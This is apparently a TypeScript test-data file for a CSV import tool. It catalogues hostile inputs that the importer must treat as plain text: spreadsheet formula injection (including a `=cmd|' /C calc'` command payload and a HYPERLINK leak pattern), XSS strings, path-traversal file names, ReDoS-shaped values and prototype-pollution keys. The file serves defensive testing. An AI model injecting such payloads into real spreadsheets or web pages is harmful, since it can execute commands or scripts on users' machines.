/** The bad-input catalogue, group F: Injection and hostile content (test data, imported only by tests). */
import { fileCase as file, type CatalogueCase } from './cases';
import { utf8, HEADER, row, HOSTILE, templateFile, type Cells } from './build';
import { headersAt, rejectedAt } from './checks';

const OWASP1 = '=1+2";=1+2';
const OWASP2 = `=1+2'" ;,=1+2`;
const q = (s: string) => `"${s.replaceAll('"', '""')}"`;

/**
 * A ReDoS-shaped input: the rows `cells` (each rejected, with its code and column), then a good
 * row for UZB; every import of it must stay within `budgetMs`.
 */
function redos(
	id: string,
	description: string,
	bad: {
		cells: Cells;
		code: 'invalid-number' | 'unknown-country' | 'invalid-period';
		column: number;
	}[],
	budgetMs: number
) {
	return file(id, description, 'each cell under 50 ms', {
		build: templateFile([...bad.map((b) => b.cells), { partner: 'UZB' }]),
		expected: 'partial',
		rows: [{ partner: 'UZB' }],
		rejections: bad.flatMap((b, i) => rejectedAt([i + 2], b.code, b.column)),
		budgetMs
	});
}

const spaces = ' '.repeat(100_000);

export const F: CatalogueCase[] = [
	file(
		'F1',
		'formula cells `=HYPERLINK(…)`, `+1`, `-1+1`, `@SUM(A1)`, `\\t=1`, `\\r=1`, `\\n=1`',
		'OK as text (escaped on export)',
		{
			build: templateFile([
				{ note: q('=HYPERLINK("http://x?"&A1)') },
				{ note: '+1', label: '-1+1', partner: 'UZB' },
				{ note: '@SUM(A1)', label: q('\t=1'), partner: 'KGZ' },
				{ note: q('\r=1'), label: q('\n=1'), partner: 'TJK' }
			]),
			expected: 'parse',
			rows: [
				{ note: '=HYPERLINK("http://x?"&A1)' },
				{ note: '+1', sectorLabel: '-1+1', partner: 'UZB' },
				{ note: '@SUM(A1)', sectorLabel: '=1', partner: 'KGZ' },
				{ note: '=1', sectorLabel: '=1', partner: 'TJK' }
			]
		}
	),
	file('F2', '`=1+1\\nx` (formula plus newline)', 'OK as text; export escaped', {
		build: templateFile([{ note: q('=1+1\nx') }]),
		expected: 'parse',
		rows: [{ note: '=1+1\nx' }]
	}),
	file(
		'F3',
		`OWASP examples \`${OWASP1}\` and \`${OWASP2}\``,
		'OK as text; export exactly as OWASP says',
		{
			build: templateFile([{ note: q(OWASP1), label: q(OWASP2) }]),
			expected: 'parse',
			rows: [{ note: OWASP1, sectorLabel: OWASP2 }]
		}
	),
	file('F4', 'markup as sector label, source and note', 'OK: inert everywhere', {
		build: templateFile([
			{ label: HOSTILE, source: '<svg onload=alert(1)>', note: q('"><script>alert(1)</script>') }
		]),
		expected: 'parse',
		rows: [
			{ sectorLabel: HOSTILE, source: '<svg onload=alert(1)>', note: '"><script>alert(1)</script>' }
		]
	}),
	file(
		'F5',
		'`javascript:alert(1)` and `data:text/html,…` cells',
		'OK as text; never used as href',
		{
			build: templateFile([{ note: 'javascript:alert(1)', source: q('data:text/html,<b>x</b>') }]),
			expected: 'parse',
			rows: [{ note: 'javascript:alert(1)', source: 'data:text/html,<b>x</b>' }]
		}
	),
	file(
		'F6',
		'hostile file names: markup, `../../x.csv`, 300 characters',
		'OK: escaped in the UI; export name sanitised',
		{
			fileName: `"><img src=x onerror=alert(1)>../../${'n'.repeat(300)}.csv`,
			build: templateFile([{}]),
			expected: 'parse',
			rows: [{ dataset: `"><img src=x onerror=alert(1)>../../${'n'.repeat(300)}.csv` }]
		}
	),
	redos(
		'F7',
		'ReDoS-shaped value cell: 100k digits + `x`',
		[{ cells: { value: `${'1'.repeat(100_000)}x` }, code: 'invalid-number', column: 7 }],
		50
	),
	redos(
		'F7b',
		'ReDoS-shaped cells: 100k spaces inside a value, a partner and a period',
		[
			{ cells: { value: `1${spaces}x` }, code: 'invalid-number', column: 7 },
			{ cells: { partner: `KAZ${spaces}x` }, code: 'unknown-country', column: 2 },
			{ cells: { period: `2023${spaces}x` }, code: 'invalid-period', column: 1 }
		],
		150
	),
	redos(
		'F7c',
		'ReDoS-shaped value cell: `1.1.1…` (100k characters)',
		[{ cells: { value: `${'1.'.repeat(50_000)}1` }, code: 'invalid-number', column: 7 }],
		50
	),
	file('F8', 'sector values `__proto__`, `constructor`, `toString`', 'OK: all groups present', {
		build: templateFile([
			{ sector: '__proto__', label: '__proto__' },
			{ sector: 'constructor', partner: 'UZB' },
			{ sector: 'toString', partner: 'TJK' }
		]),
		expected: 'parse',
		rows: [
			{ sector: '__proto__', sectorLabel: '__proto__' },
			{ sector: 'constructor' },
			{ sector: 'toString' }
		]
	}),
	file('F9', "formula-looking header `=cmd|' /C calc'!A0`", 'OK as text', {
		build: () => utf8(`${HEADER},=cmd|' /C calc'!A0\n${row()},x\n`),
		expected: 'parse',
		verify: headersAt(11, "=cmd|' /C calc'!A0")
	})
];
